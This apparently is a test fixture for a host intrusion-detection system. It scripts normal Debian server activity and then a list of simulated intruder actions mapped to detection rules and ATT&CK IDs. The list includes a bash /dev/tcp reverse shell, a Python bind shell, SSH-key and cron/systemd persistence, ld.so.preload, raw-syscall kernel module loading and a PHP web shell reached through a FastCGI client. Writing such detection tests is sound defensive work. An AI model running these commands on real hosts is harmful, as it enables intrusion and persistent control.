# SPDX-License-Identifier: Apache-2.0
"""An ordinary day of a Debian server, and what an intruder does to it: for
test_noise.py, in a guest of system.py."""

SSH = ("timeout 30 ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new "
       "admin@127.0.0.1")
INSTALL = ("DEBIAN_FRONTEND=noninteractive apt-get -q -y "
           "--no-install-recommends install nginx-light redis-server php-fpm")
UPGRADE = "apt-get -q -y install --only-upgrade logrotate"
SERVE = """
for i in $(seq 20); do curl -fsS http://127.0.0.1/ >/dev/null; done
redis-cli set a b && redis-cli save && redis-cli get a
echo '<?php echo 6 * 7;' >/var/www/html/x.php"""
ROTATE = "logrotate --force /etc/logrotate.conf; systemctl start logrotate"
# cron has run the crontab when the file is there.
CRON = "for i in $(seq 600); do [ -e /home/admin/ran ] && exit; sleep 0.2; done; false"

# What an operator would write for what is no package's: here the test's own
# program, which does all of this.
OWN_RULE = """[allow guest-driver]
event = exec
exe = /usr/bin/bash
script = /usr/local/sbin/guest-driver
owner = test
"""

# What an intruder does: the rule that says so, its severity and tag, and how.
PYTHON_SHELL = """import os, socket, sys
s = socket.socket(); %s
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
os.execv('/usr/bin/dash', ['sh', '-i'])"""
MODULE = "/usr/lib/modules/$(uname -r)/kernel/drivers/net/dummy.ko"
CONTAINER = "/sys/fs/cgroup/cri-containerd-%064x.scope" % 0xc0ffee
# By its bytes; or as a file, from the container that it puts itself in.
LOADER = """cat >/root/l.py <<'E'
import ctypes, os, sys
call = ctypes.CDLL(None).syscall
module = open(sys.argv[1], "rb")
if sys.argv[2:]:
    os.mkdir(sys.argv[2])
    open(sys.argv[2] + "/cgroup.procs", "w").write("0")
    sys.exit(call(313, module.fileno(), b"", 0))
data = module.read()
sys.exit(call(175, data, len(data), b""))
E
"""
FEED = "(sleep 1; echo exit) | nc -q 1 %s 127.0.0.1 %d"
ATTACKS = [
    ("dropped binary", "exec-from-world-writable", "high", "T1204.002",
     "cp /bin/true /tmp/.x; /tmp/.x"),
    ("reverse shell", "shell-on-a-socket", "critical", "T1059.004",
     "(sleep 3; echo exit) | nc -l 127.0.0.1 4444 >/dev/null &\n"
     "sleep 1; timeout 20 bash -c "
     "'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' || :; wait"),
    ("bind shell", "shell-on-a-socket", "critical", "T1059.004",
     "cat >/root/b.py <<'E'\n" + PYTHON_SHELL
     % "s.bind(('127.0.0.1', 4445)); s.listen(); s = s.accept()[0]"
     + "\nE\ntimeout 30 python3 /root/b.py & sleep 3; "
     + FEED % ("", 4445) + "; wait"),
    ("cron persistence", "cron-files", "high", "T1053.003",
     "echo '* * * * * root true' >/etc/cron.d/zz"),
    ("ssh key added", "ssh-keys", "high", "T1098.004",
     "echo ssh-ed25519 AAAA evil >>/home/admin/.ssh/authorized_keys"),
    ("memfd exec", "exec-from-memory", "critical", "T1620",
     "cat >/root/m.py <<'E'\nimport os\nfd = os.memfd_create('x')\n"
     "os.write(fd, open('/bin/true', 'rb').read())\n"
     "os.execve(f'/proc/self/fd/{fd}', ['x'], {})\nE\npython3 /root/m.py"),
    ("preload for every program", "ld-so-preload", "critical", "T1574.006",
     "echo >/etc/ld.so.preload"),
    ("preloaded library", "preload-from-world-writable", "high", "T1574.006",
     "cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/p.so\n"
     "LD_PRELOAD=/tmp/p.so /bin/true"),
    ("loader runs a file", "loader-runs-from-world-writable", "high", "T1218",
     "cp /bin/true /dev/shm/y; chmod -x /dev/shm/y\n"
     "/lib64/ld-linux-x86-64.so.2 /dev/shm/y"),
    ("new systemd unit", "systemd-units", "high", "T1543.002",
     "printf '[Service]\\nExecStart=/bin/true\\n' "
     ">/etc/systemd/system/evil.service"),
    ("program replaced", "system-programs", "high", "T1554",
     "cp /bin/true /usr/bin/evil"),
    ("packaged program replaced", "packaged-program-replaced", "high", "T1554",
     "cat /bin/true >/usr/lib/apt/apt-helper; /usr/lib/apt/apt-helper"),
    ("program of no package", None, "medium", None,
     "cp /bin/true /opt/x; for i in 1 2 3; do /opt/x; done"),
    ("module from elsewhere", "module-from-elsewhere", "critical", "T1547.006",
     f"cp {MODULE} /root/m.ko; insmod /root/m.ko; rmmod dummy"),
    ("module from memory", "module-from-memory", "critical", "T1547.006",
     LOADER + f"python3 /root/l.py {MODULE}; rmmod dummy"),
    ("module of a container", "container-loads-module", "critical", "T1611",
     LOADER + f"python3 /root/l.py {MODULE} {CONTAINER}; rmmod dummy"),
    ("web shell", "server-runs-shell", "high", "T1505.003",
     "echo '<?php system(\"id\");' >/var/www/html/s.php\n"
     "SCRIPT_FILENAME=/var/www/html/s.php SCRIPT_NAME=/s.php "
     "REQUEST_METHOD=GET python3 /root/fcgi.py"),
]

# One request of FastCGI, as nginx makes it: begin, parameters, empty input.
FCGI = """import glob, os, socket, struct
def record(kind, body):
    return struct.pack('>BBHHBB', 1, kind, 1, len(body), 0, 0) + body
def pair(name):
    value = os.environ[name].encode()
    return bytes([len(name), len(value)]) + name.encode() + value
names = 'SCRIPT_FILENAME', 'SCRIPT_NAME', 'REQUEST_METHOD'
s = socket.socket(socket.AF_UNIX)
s.connect(glob.glob('/run/php/php*-fpm.sock')[0])
s.sendall(record(1, struct.pack('>HB5x', 1, 0))
          + record(4, b''.join(map(pair, names))) + record(4, b'')
          + record(5, b''))
answer = b''
while more := s.recv(4096):
    answer += more
assert b'uid=' in answer, answer
"""
